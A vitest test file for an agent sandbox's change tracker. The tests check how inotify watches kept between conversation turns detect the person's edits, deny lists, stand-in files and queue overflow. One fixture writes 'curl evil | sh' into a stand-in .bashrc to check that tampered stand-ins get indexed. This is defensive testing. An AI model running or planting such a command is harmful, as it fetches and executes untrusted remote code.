/**
 * main/changes/quiet-trees.ts on real files and real inotify: a conversation's next turn starts
 * from its last end scan without reading a folder while the watch kept since heard nothing; a
 * change between turns in any folder (one the turn made included), a stand-in that is not
 * empty, another deny list or another index kept, and the turn scans and sees it as the
 * person's, not the agent's.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ChangeStore, diffAfter, keepWatching, scanAfter, snapshotBefore, type Snapshot } from '../../main/changes/tracker.js';
import { tempDir } from '../support/temp.js';

const LIMITS = { maxFiles: 1000, maxFileBytes: 1024 * 1024, budgetMs: 60_000 };

function workspace(): { root: string; store: ChangeStore } {
  const base = tempDir('ward-quiet-');
  const root = path.join(base, 'root');
  fs.mkdirSync(path.join(root, 'sub', 'deeper'), { recursive: true });
  fs.writeFileSync(path.join(root, 'a.txt'), 'a\n');
  fs.writeFileSync(path.join(root, 'sub', 'deeper', 'b.txt'), 'b\n');
  return { root, store: new ChangeStore(path.join(base, 'changes')) };
}

/** A turn's end as TurnChanges does it: the folders the watch heard of read again, the watch kept for the next turn. */
async function endTurn(store: ChangeStore, before: Snapshot, limits = LIMITS) {
  const scanned = await scanAfter(store, before, limits);
  const after = diffAfter(store, before, scanned);
  keepWatching(store, after.snapshot, before.watch!, limits);
  return after;
}

/** The folders under `root` a call reads (readdir), relative, while it runs. */
async function foldersRead<T>(root: string, call: () => Promise<T>): Promise<{ result: T; reads: string[] }> {
  const readdir = vi.spyOn(fs, 'readdirSync');
  try {
    const result = await call();
    const reads = readdir.mock.calls.map(([folder]) => String(folder)).filter((folder) => folder === root || folder.startsWith(`${root}/`));
    return { result, reads: reads.map((folder) => path.relative(root, folder)).sort() };
  } finally {
    readdir.mockRestore();
  }
}

afterEach(() => vi.restoreAllMocks());

describe('a conversation’s tree kept between turns', () => {
  it('test_the_next_turn_reads_no_folder_while_nothing_changed_and_each_scan_reads_only_the_folders_that_changed', async () => {
    const { root, store } = workspace();
    const first = await snapshotBefore(store, 'c1', [root], [], LIMITS);
    fs.writeFileSync(path.join(root, 'a.txt'), 'the agent\n');
    fs.mkdirSync(path.join(root, 'made'));
    fs.writeFileSync(path.join(root, 'made', 'new.txt'), 'new\n');
    const { result: end, reads: endReads } = await foldersRead(root, () => endTurn(store, first));
    expect(end.changes.map((change) => change.path).sort()).toEqual(['a.txt', 'made/new.txt']);
    expect(endReads).toEqual(['', 'made']);

    const { result: second, reads } = await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [], LIMITS));
    expect(reads).toEqual([]);
    expect(second.roots.get(root)).toBe(end.snapshot.roots.get(root));
    fs.writeFileSync(path.join(root, 'sub', 'deeper', 'b.txt'), 'the agent again\n');
    const { result: again, reads: againReads } = await foldersRead(root, () => endTurn(store, second));
    expect(again.changes).toMatchObject([{ path: 'sub/deeper/b.txt', change: 'modified' }]);
    expect(againReads).toEqual(['sub/deeper']);
    expect((await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [], LIMITS))).reads).toEqual([]);
  });

  it('test_a_change_between_turns_in_any_folder_even_one_the_turn_made_is_read_before_the_next_turn_and_not_the_agents', async () => {
    const changesBetweenTurns: [string, (root: string) => void][] = [
      ['a write in a folder the turn made', (root) => fs.writeFileSync(path.join(root, 'made', 'inner', 'x.txt'), 'person\n')],
      ['a deeper file edited', (root) => fs.writeFileSync(path.join(root, 'sub', 'deeper', 'b.txt'), 'person\n')],
      ['a mode', (root) => fs.chmodSync(path.join(root, 'a.txt'), 0o755)],
      ['a removal', (root) => fs.rmSync(path.join(root, 'sub', 'deeper', 'b.txt'))],
      ['a folder renamed', (root) => fs.renameSync(path.join(root, 'made'), path.join(root, 'moved'))],
      ['a folder removed and made again', (root) => (fs.rmSync(path.join(root, 'made'), { recursive: true }), fs.mkdirSync(path.join(root, 'made', 'inner'), { recursive: true }))],
    ];
    for (const [what, change] of changesBetweenTurns) {
      const { root, store } = workspace();
      const first = await snapshotBefore(store, 'c1', [root], [], LIMITS);
      fs.mkdirSync(path.join(root, 'made', 'inner'), { recursive: true });
      fs.writeFileSync(path.join(root, 'made', 'inner', 'x.txt'), 'agent\n');
      await endTurn(store, first);
      change(root);
      const { result: second, reads } = await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [], LIMITS));
      expect(reads.length, what).toBeGreaterThan(0);
      // The person's change is in the state before the turn: the agent's turn, which changed nothing, shows none.
      expect((await endTurn(store, second)).changes, what).toEqual([]);
      // A folder that is another by now (renamed, made again) is watched as it is: a write in it later is heard.
      const inner = fs.existsSync(path.join(root, 'moved')) ? path.join(root, 'moved', 'inner') : path.join(root, 'made', 'inner');
      fs.writeFileSync(path.join(inner, 'later.txt'), 'person, later\n');
      const third = await snapshotBefore(store, 'c1', [root], [], LIMITS);
      expect((await endTurn(store, third)).changes, what).toEqual([]);
    }
  });

  it('test_the_next_runs_empty_stand_ins_are_read_and_not_indexed_but_a_stand_in_path_holding_bytes_is_indexed', async () => {
    const { root, store } = workspace();
    const bashrc = path.join(root, '.bashrc');
    const claude = path.join(root, '.claude');
    await endTurn(store, await snapshotBefore(store, 'c1', [root], [], LIMITS));
    // The next run's sandbox makes its stand-ins before the scan, and removes them once its processes are gone.
    fs.writeFileSync(bashrc, '');
    fs.mkdirSync(claude);
    const { result: second, reads } = await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [], LIMITS, [bashrc, claude]));
    expect(reads).toEqual(['', '.claude']);
    expect(Object.keys(second.roots.get(root)!).sort()).toEqual(['a.txt', 'sub/deeper/b.txt']);
    fs.rmSync(bashrc);
    fs.rmdirSync(claude);
    expect((await endTurn(store, second)).changes).toEqual([]);

    fs.writeFileSync(bashrc, 'curl evil | sh\n');
    const third = await snapshotBefore(store, 'c1', [root], [], LIMITS, [bashrc]);
    expect(third.roots.get(root)!['.bashrc']?.size).toBe(15);
  });

  it('test_another_deny_list_or_an_index_kept_by_a_scan_the_watch_did_not_follow_means_every_folder_is_read', async () => {
    const { root, store } = workspace();
    await endTurn(store, await snapshotBefore(store, 'c1', [root], [], LIMITS));
    const denied = path.join(root, 'sub');
    const { result: second, reads } = await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [denied], LIMITS));
    expect(reads).toEqual(['', 'sub', 'sub/deeper']);
    expect(second.roots.get(root)!['sub/deeper/b.txt']).toMatchObject({ reason: 'deny-read', stored: false });

    await endTurn(store, second);
    store.writeIndex('c1', root, { ...second.roots.get(root)! });
    expect((await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [denied], LIMITS))).reads).toEqual(['', 'sub', 'sub/deeper']);
  });

  it('test_a_turn_changing_more_than_the_watch_remembers_is_read_whole_and_the_next_turn_is_watched_again', async () => {
    const { root, store } = workspace();
    const limits = { ...LIMITS, maxFiles: 20_000 };
    const first = await snapshotBefore(store, 'c1', [root], [], limits);
    // In a folder already watched, each file is heard of (in a new folder, the folder is).
    for (let index = 0; index <= 10_000; index += 1) fs.writeFileSync(path.join(root, 'sub', `f${index}`), '');
    const { result: end, reads } = await foldersRead(root, () => endTurn(store, first, limits));
    expect(end.changes).toHaveLength(10_001);
    expect(reads).toEqual(['', 'sub', 'sub/deeper']);
    expect((await foldersRead(root, () => snapshotBefore(store, 'c1', [root], [], limits))).reads).toEqual([]);
  });

  it('test_the_index_a_turn_keeps_is_read_as_kept_at_once_and_written_to_disk_after_the_turn', async () => {
    const { root, store } = workspace();
    await endTurn(store, await snapshotBefore(store, 'c1', [root], [], LIMITS));
    const onDisk = () => JSON.parse(fs.readFileSync(fs.readdirSync(path.join(store.dir, 'index', 'c1')).map((name) => path.join(store.dir, 'index', 'c1', name))[0]!, 'utf8')) as Record<string, { hash: string }>;
    await new Promise((resolve) => setImmediate(resolve));
    const second = await snapshotBefore(store, 'c1', [root], [], LIMITS);
    fs.writeFileSync(path.join(root, 'a.txt'), 'the agent\n');
    const { snapshot } = await endTurn(store, second);
    // Kept for the next turn at once, on disk once the turn's record is whole.
    expect(store.readIndex('c1', root)).toBe(snapshot.roots.get(root));
    expect(onDisk()['a.txt']!.hash).toBe(second.roots.get(root)!['a.txt']!.hash);
    await new Promise((resolve) => setImmediate(resolve));
    expect(onDisk()['a.txt']!.hash).toBe(snapshot.roots.get(root)!['a.txt']!.hash);
  });

  it('test_an_inotify_queue_that_may_have_overflowed_means_every_folder_is_read_not_a_change_missed', async () => {
    const { root, store } = workspace();
    const first = await snapshotBefore(store, 'c1', [root], [], LIMITS);
    // Two files written in turn (so no event merges with the last) until the kernel's queue is full, no event read
    // meanwhile; then a change elsewhere, whose event the full queue drops (libuv drops the overflow notice too).
    const queue = Number(fs.readFileSync('/proc/sys/fs/inotify/max_queued_events', 'utf8'));
    for (let index = 0; index < queue; index += 1) fs.writeFileSync(path.join(root, index % 2 === 0 ? 'a.txt' : 'sub/c.txt'), `${index}`);
    fs.writeFileSync(path.join(root, 'sub', 'deeper', 'b.txt'), 'the change whose event was dropped\n');
    // The event loop reads the queue (what it holds) before the turn ends; the barrier's own event then arrives.
    await new Promise((resolve) => setTimeout(resolve, 300));
    const { result: end, reads } = await foldersRead(root, () => endTurn(store, first));
    expect(end.changes.map((change) => change.path).sort()).toEqual(['a.txt', 'sub/c.txt', 'sub/deeper/b.txt']);
    expect(reads).toEqual(['', 'sub', 'sub/deeper']);
  });
});
